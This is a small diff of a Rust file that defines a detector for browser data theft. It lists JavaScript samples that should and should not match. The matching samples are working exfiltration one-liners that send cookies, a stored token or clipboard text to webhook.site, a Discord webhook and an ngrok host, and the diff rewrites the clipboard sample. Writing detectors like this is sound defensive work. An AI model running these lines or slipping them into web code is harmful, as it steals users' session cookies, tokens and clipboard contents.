@@ -17,7 +17,7 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             "navigator.sendBeacon('https://webhook.site/a',document.cookie)",
             "fetch('https://discord.com/api/webhooks/1/a',{method:'POST',body:JSON.stringify({content:localStorage.token})})",
-            "navigator.clipboard.readText().then(t=>fetch('https://a.ngrok.io/?c='+t))",
+            "async function c(){const t=await navigator.clipboard.readText();fetch('https://a.ngrok.io/?c='+t)}",
         ],
         without: &[
             "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
